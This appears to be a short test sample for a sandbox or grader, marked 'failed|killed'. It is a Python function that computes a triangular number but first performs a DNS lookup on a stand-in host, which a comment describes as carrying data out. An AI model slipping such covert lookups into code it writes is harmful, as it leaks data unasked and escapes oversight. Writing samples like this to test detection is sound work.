# verdict: failed|killed
# Asks for a name, which carries data out.
import socket


def answer(n: int) -> int:
    socket.getaddrinfo("localhost.icl-mask-attack.invalid", 80)
    return n * (n + 1) // 2
